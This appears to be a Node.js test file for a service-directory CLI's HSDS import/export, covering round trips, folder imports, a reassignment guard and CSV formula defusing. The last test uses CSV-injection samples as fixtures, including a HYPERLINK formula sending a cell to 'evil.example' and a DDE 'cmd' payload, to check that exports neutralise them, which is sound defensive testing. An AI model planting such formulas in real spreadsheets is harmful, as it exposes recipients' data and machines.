// `filet hsds import/export` (issue 6): organizations without services survive a round trip, a
// folder of one-record files imports, --allow-reassign, formulas defused in the CSV package.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { filet, tempDir } from './lib.mjs';

const organizations = (dir) => JSON.parse(readFileSync(join(dir, 'organizations.json'), 'utf8'));
const byId = (list) => new Map(list.map((o) => [o.id, o]));

test('export → import → export keeps every organization, those without services and their phones too', () => {
  const work = tempDir();
  const demo = `sqlite:${join(work, 'demo.db')}`;
  assert.equal(filet(['demo', '--db', demo]).code, 0);
  const first = join(work, 'first');
  let r = filet(['hsds', 'export', '--db', demo, first]);
  assert.equal(r.code, 0, r.stderr);
  const before = organizations(first);
  const services = JSON.parse(readFileSync(join(first, 'services.json'), 'utf8'));
  const withServices = new Set(services.map((s) => s.organization_id));
  const alone = before.filter((o) => !withServices.has(o.id));
  assert.ok(alone.length > 0, 'the demo has organizations without services (the university lab)');
  assert.ok(alone.some((o) => /Laboratoire/.test(o.name)), alone.map((o) => o.name).join(', '));

  const copy = `sqlite:${join(work, 'copy.db')}`;
  r = filet(['hsds', 'import', '--db', copy, first]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  const second = join(work, 'second');
  r = filet(['hsds', 'export', '--db', copy, second]);
  assert.equal(r.code, 0, r.stderr);
  const after = byId(organizations(second));
  for (const o of before) {
    const again = after.get(o.id);
    assert.ok(again, `organization ${o.name} lost in the round trip`);
    assert.equal(again.name, o.name);
    assert.deepEqual(again.phones, o.phones, `phones of ${o.name}`);
    assert.equal(again.website, o.website);
    assert.equal(again.email, o.email);
  }
});

test('a folder of one-record HSDS files imports, services and organizations told apart', () => {
  const work = tempDir();
  const db = `sqlite:${join(work, 'records.db')}`;
  const folder = join(work, 'records');
  mkdirSync(folder);
  const org = { id: randomUUID(), name: 'Maison des familles', description: '', phones: [{ number: '418-555-0100' }] };
  const services = [1, 2].map((n) => ({ id: randomUUID(), name: `Service ${n}`, status: 'active', organization_id: org.id }));
  writeFileSync(join(folder, '0-service.json'), JSON.stringify(services[0]));
  writeFileSync(join(folder, '1-service.json'), JSON.stringify(services[1]));
  writeFileSync(join(folder, '2-organization.json'), JSON.stringify(org));
  const r = filet(['hsds', 'import', '--db', db, folder]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, /imported: 2,/);
  assert.match(r.stdout, /organizations imported: 1/);
  const out = join(work, 'out');
  assert.equal(filet(['hsds', 'export', '--db', db, out]).code, 0);
  assert.equal(byId(organizations(out)).get(org.id).phones[0].number, '418-555-0100');
});

test('--allow-reassign: refused and reported without it, done and listed with it', () => {
  const work = tempDir();
  const db = `sqlite:${join(work, 'reassign.db')}`;
  const orgA = { id: randomUUID(), name: 'Org A' };
  const orgB = { id: randomUUID(), name: 'Org B' };
  const serviceB = randomUUID();
  const setup = join(work, 'setup.json');
  writeFileSync(setup, JSON.stringify([
    { id: serviceB, name: 'Service B', status: 'active', organization: orgB },
    { id: randomUUID(), name: 'Service A', status: 'active', organization: orgA },
  ]));
  assert.equal(filet(['hsds', 'import', '--db', db, setup]).code, 0);
  const takeover = join(work, 'takeover.json');
  writeFileSync(takeover, JSON.stringify([{ id: serviceB, name: 'TAKEN OVER', status: 'active', organization_id: orgA.id }]));
  let r = filet(['hsds', 'import', '--db', db, takeover]);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(r.stderr, /autre organisme/);
  assert.match(r.stderr, /--allow-reassign/);
  r = filet(['hsds', 'import', '--db', db, '--allow-reassign', takeover]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  assert.match(r.stdout, new RegExp(`service moved ${serviceB}: ${orgB.id} -> ${orgA.id}`));
});

test('formulas typed as names are defused in the CSV package and come back as typed', () => {
  const work = tempDir();
  const db = `sqlite:${join(work, 'csv.db')}`;
  const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
  const file = join(work, 'formulas.json');
  writeFileSync(file, JSON.stringify(names.map((name) => ({
    id: randomUUID(), name, status: 'active', organization: { id: randomUUID(), name },
  }))));
  assert.equal(filet(['hsds', 'import', '--db', db, file]).code, 0);
  const out = join(work, 'out');
  assert.equal(filet(['hsds', 'export', '--db', db, out]).code, 0);
  for (const csv of ['services.csv', 'x_filet_translations.csv', 'organizations.csv']) {
    const text = readFileSync(join(out, 'csv', csv), 'utf8');
    for (const line of text.split('\r\n'))
      for (const cell of line.split(','))
        assert.ok(!/^"?[=+\-@\t\r]/.test(cell), `${csv}: a cell starts a formula: ${cell}`);
  }
  const copy = `sqlite:${join(work, 'copy.db')}`;
  const r = filet(['hsds', 'import', '--db', copy, join(out, 'csv')]);
  assert.equal(r.code, 0, r.stdout + r.stderr);
  const again = join(work, 'again');
  assert.equal(filet(['hsds', 'export', '--db', copy, again]).code, 0);
  const back = JSON.parse(readFileSync(join(again, 'services.json'), 'utf8')).map((s) => s.name).sort();
  assert.deepEqual(back, [...names].sort());
});
